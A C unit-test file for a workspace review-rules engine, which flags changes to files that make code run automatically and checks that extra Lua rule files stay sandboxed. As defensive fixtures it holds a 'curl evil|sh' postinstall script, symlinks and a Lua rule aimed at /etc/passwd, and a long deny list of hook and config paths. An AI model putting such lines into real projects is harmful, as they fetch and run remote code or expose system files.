/* Review rules: the expected results of workspace.md 7 (as amended by
 * decisions 40), one must-flag and one must-not-flag case per surface, the
 * change-aware rules (package.json, pyproject, executables, symlinks), extra
 * --rules files and rule errors. */
#include <stdlib.h>
#include <unistd.h>

#include "tap.h"
#include "workspace/ws_int.h"

static struct ws_rules *rules_or_die(const char *const *extra)
{
	struct sl_err err = { 0 };
	struct ws_rules *r = ws__rules_load(extra, &err);
	if (!r)
		printf("# rules: %s\n", err.msg);
	return r;
}

static struct jv *file_change(const char *path, const char *kind)
{
	struct jv *c = jv_obj();
	jv_set(c, "path", jv_str(path));
	jv_set(c, "kind", jv_str(kind));
	if (strcmp(kind, "added")) {
		jv_set(c, "old_kind", jv_str("file"));
		jv_set(c, "old_mode", jv_int(0644));
	}
	if (strcmp(kind, "deleted")) {
		jv_set(c, "new_kind", jv_str("file"));
		jv_set(c, "new_mode", jv_int(0644));
	}
	return c;
}

static char *check(struct ws_rules *r, const char *path)
{
	struct jv *c = file_change(path, "modified");
	char *why = ws__rules_check(r, c);
	jv_unref(c);
	return why;
}

static const char *const must_flag[] = {
	".git/hooks/pre-commit", "vendor/dep/.git/hooks/post-checkout", "sub/.git/config",
	"sub/dir/.envrc", ".direnv/bin/tool", "sub/.vscode/extensions.json", "crates/foo/build.rs",
	"sub/.cargo/config.toml", "my.code-workspace", ".git/config.worktree",
	".git/info/attributes", ".pre-commit-config.yml", ".pre-commit-config.yaml",
	".gitattributes", ".gitmodules", ".idea/workspace.xml", ".husky/pre-push",
	".cargo/config", ".devcontainer/devcontainer.json", ".npmrc", ".yarnrc.yml",
	"setup.py", "Makefile", "src/CMakeLists.txt", "cmake/deps.cmake",
	".github/workflows/ci.yml", ".bashrc", "home/.zshrc", "Gemfile", "Rakefile",
	".pnpmfile.cjs", "conftest.py", ".gitlab-ci.yml", "x.gemspec", "rules.mk",
	".git/modules/sub/hooks/post-checkout", ".exrc", NULL
};
static const char *const must_not_flag[] = {
	".git/hooks", ".git/description", "git/config", "gitattributes", "envrc",
	"vscode/tasks.json", "package.json5", "not-package.json", "src/builder.rs",
	".cargo/audit.toml", "x.cargo/config", "code-workspace", "src/main.rs", "README.md",
	"docs/Makefile.txt", "bashrc", "src/setup.py.txt", "", NULL
};

TEST(rules_expected_results)
{
	struct ws_rules *r = rules_or_die(NULL);
	CHECK(r != NULL);
	if (!r)
		return;
	for (size_t i = 0; must_flag[i]; i++) {
		char *why = check(r, must_flag[i]);
		if (!why)
			printf("#   not flagged: %s\n", must_flag[i]);
		CHECK(why != NULL);
		free(why);
	}
	for (size_t i = 0; must_not_flag[i]; i++) {
		char *why = check(r, must_not_flag[i]);
		if (why)
			printf("#   flagged: %s (%s)\n", must_not_flag[i], why);
		CHECK(why == NULL);
		free(why);
	}
	char *why = check(r, ".git/hooks/pre-commit");
	CHECK(why && strstr(why, "hook"));
	free(why);
	ws__rules_free(r);
}

static char *pkg(struct ws_rules *r, const char *old, const char *new)
{
	struct jv *c = file_change("app/package.json", "modified");
	if (old)
		jv_set(c, "old_text", jv_str(old));
	if (new)
		jv_set(c, "new_text", jv_str(new));
	char *why = ws__rules_check(r, c);
	jv_unref(c);
	return why;
}

TEST(rules_package_json_only_lifecycle_keys)
{
	struct ws_rules *r = rules_or_die(NULL);
	if (!r) {
		CHECK(0);
		return;
	}
	char *w = pkg(r, "{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"test\":\"x\"}}",
		      "{\"name\":\"a\",\"version\":\"1.0.1\",\"scripts\":{\"test\":\"x\"}}");
	CHECK(w == NULL);
	free(w);
	w = pkg(r, "{\"scripts\":{\"test\":\"x\"}}",
		"{\"scripts\":{\"test\":\"x\",\"postinstall\":\"curl evil|sh\"}}");
	CHECK(w && strstr(w, "scripts"));
	free(w);
	w = pkg(r, "{\"name\":\"a\"}", "{\"name\":\"a\",\"bin\":{\"a\":\"x.js\"}}");
	CHECK(w && strstr(w, "bin"));
	free(w);
	w = pkg(r, "{\"name\":\"a\"}", "{not json");
	CHECK(w && strstr(w, "not valid JSON"));
	free(w);
	/* added package.json with scripts is flagged, without is not */
	struct jv *c = file_change("package.json", "added");
	jv_set(c, "new_text", jv_str("{\"scripts\":{\"prepare\":\"x\"}}"));
	w = ws__rules_check(r, c);
	CHECK(w != NULL);
	free(w);
	jv_set(c, "new_text", jv_str("{\"name\":\"x\",\"dependencies\":{}}"));
	w = ws__rules_check(r, c);
	CHECK(w == NULL);
	free(w);
	jv_unref(c);
	ws__rules_free(r);
}

TEST(rules_pyproject_build_hooks)
{
	struct ws_rules *r = rules_or_die(NULL);
	if (!r) {
		CHECK(0);
		return;
	}
	struct jv *c = file_change("pyproject.toml", "modified");
	jv_set(c, "old_text", jv_str("[project]\nname='a'\nversion='1'\n[build-system]\nrequires=['setuptools']\n"));
	jv_set(c, "new_text", jv_str("[project]\nname='a'\nversion='2'\n[build-system]\nrequires=['setuptools']\n"));
	char *w = ws__rules_check(r, c);
	CHECK(w == NULL);
	free(w);
	jv_set(c, "new_text", jv_str("[project]\nname='a'\nversion='1'\n[build-system]\nrequires=['evil']\nbuild-backend='evil'\n"));
	w = ws__rules_check(r, c);
	CHECK(w && strstr(w, "build"));
	free(w);
	jv_unref(c);
	ws__rules_free(r);
}

TEST(rules_executable_and_symlink)
{
	struct ws_rules *r = rules_or_die(NULL);
	if (!r) {
		CHECK(0);
		return;
	}
	struct jv *c = file_change("tools/run", "modified");
	jv_set(c, "new_mode", jv_int(0755));
	char *w = ws__rules_check(r, c);
	CHECK(w && strstr(w, "executable"));
	free(w);
	jv_set(c, "old_mode", jv_int(0755));
	w = ws__rules_check(r, c);
	CHECK(w == NULL); /* was executable already */
	free(w);
	jv_unref(c);

	c = jv_obj();
	jv_set(c, "path", jv_str("sub/link"));
	jv_set(c, "kind", jv_str("added"));
	jv_set(c, "new_kind", jv_str("symlink"));
	jv_set(c, "new_target", jv_str("../../etc/passwd"));
	w = ws__rules_check(r, c);
	CHECK(w && strstr(w, "outside"));
	free(w);
	jv_set(c, "new_target", jv_str("../README.md"));
	w = ws__rules_check(r, c);
	CHECK(w == NULL);
	free(w);
	jv_set(c, "new_target", jv_str("/etc/passwd"));
	w = ws__rules_check(r, c);
	CHECK(w != NULL);
	free(w);
	jv_unref(c);
	ws__rules_free(r);
}

static char *write_tmp(const char *body)
{
	char *p = strdup("/tmp/ws-rules-XXXXXX.lua");
	int fd = mkstemps(p, 4);
	if (write(fd, body, strlen(body)) < 0)
		printf("# write failed\n");
	close(fd);
	return p;
}

TEST(rules_extra_file_and_errors)
{
	char *f1 = write_tmp("return { { name = 'secrets.txt', reason = 'team rule' },\n"
			     "  { match = function(c) if c.path == 'boom' then error('kaput') end end } }\n");
	const char *extra[] = { f1, NULL };
	struct ws_rules *r = rules_or_die(extra);
	CHECK(r != NULL);
	if (r) {
		char *w = check(r, "a/secrets.txt");
		CHECK_STR(w, "team rule");
		free(w);
		w = check(r, "boom");
		CHECK(w && !strncmp(w, "review rule error: ", 19) && strstr(w, "kaput"));
		free(w);
		w = check(r, ".envrc"); /* built-ins still first */
		CHECK(w && strstr(w, "direnv"));
		free(w);
		ws__rules_free(r);
	}
	/* a broken rules file is refused with its name */
	char *f2 = write_tmp("return { { name = 'x' } }");
	const char *bad[] = { f2, NULL };
	struct sl_err err = { 0 };
	r = ws__rules_load(bad, &err);
	CHECK(r == NULL && strstr(err.msg, f2) && strstr(err.msg, "reason"));
	char *f3 = write_tmp("return {{ name = 'x', reason = 'y' }");
	const char *bad3[] = { f3, NULL };
	r = ws__rules_load(bad3, &err);
	CHECK(r == NULL);
	char *f4 = write_tmp("return { { name = 'x', under_dir = {'a'}, reason = 'y' } }");
	const char *bad4[] = { f4, NULL };
	r = ws__rules_load(bad4, &err);
	CHECK(r == NULL && strstr(err.msg, "exactly one"));
	/* sandboxed: no io/os */
	char *f5 = write_tmp("return { { match = function(c) return io.open('/etc/passwd') end } }");
	const char *sb[] = { f5, NULL };
	r = ws__rules_load(sb, &err);
	if (r) {
		char *w = check(r, "anything.txt");
		CHECK(w && strstr(w, "review rule error"));
		free(w);
		ws__rules_free(r);
	}
	unlink(f1);
	unlink(f2);
	unlink(f3);
	unlink(f4);
	unlink(f5);
	free(f1);
	free(f2);
	free(f3);
	free(f4);
	free(f5);
}

TEST(rules_every_declarative_rule_both_ways)
{
	struct ws_rules *r = rules_or_die(NULL);
	if (!r) {
		CHECK(0);
		return;
	}
	size_t tested = 0;
	for (size_t i = 0; i < ws__rules_count(r); i++) {
		char *yes = ws__rules_sample(r, i, 1), *no = ws__rules_sample(r, i, 0);
		if (!yes) {
			free(no);
			continue;
		}
		char *w1 = check(r, yes), *w2 = check(r, no);
		if (!w1)
			printf("#   rule %zu: %s not flagged\n", i, yes);
		if (w2)
			printf("#   rule %zu: %s flagged (%s)\n", i, no, w2);
		CHECK(w1 != NULL);
		CHECK(w2 == NULL);
		tested++;
		free(w1);
		free(w2);
		free(yes);
		free(no);
	}
	printf("# %zu declarative rules checked both ways\n", tested);
	CHECK(tested > 60);
	ws__rules_free(r);
}

TEST(rules_match_functions_both_ways)
{
	struct ws_rules *r = rules_or_die(NULL);
	if (!r) {
		CHECK(0);
		return;
	}
	/* shell rc files (30_shell.lua) and submodule config (10_git.lua) */
	char *w = check(r, "home/.bash_profile");
	CHECK(w && strstr(w, "shell startup"));
	free(w);
	w = check(r, "home/bash_profile");
	CHECK(w == NULL);
	free(w);
	w = check(r, ".git/modules/lib/config");
	CHECK(w != NULL);
	free(w);
	w = check(r, ".git/modules/lib/description");
	CHECK(w == NULL);
	free(w);
	ws__rules_free(r);
}
